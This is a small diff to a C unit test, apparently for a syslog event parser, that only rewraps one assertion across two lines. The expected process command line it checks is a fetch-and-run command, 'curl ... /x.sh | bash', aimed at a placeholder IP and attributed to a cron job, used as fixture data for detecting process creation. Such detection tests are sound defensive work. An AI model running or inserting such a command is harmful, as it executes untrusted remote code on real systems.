@@ -178,7 +178,8 @@ static void test_auth(void)
               TY_OK);
     CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "cron_exec");
     CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_USER), "yarn");
-    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE), "curl -fsSL http://203.0.113.9/x.sh | bash");
+    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE),
+               "curl -fsSL http://203.0.113.9/x.sh | bash");
     CHECK_INT(ty_event_int(&h.last, TY_F_PID, 0), 3100);
     CHECK_INT(ty_parser_syslog.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);
 
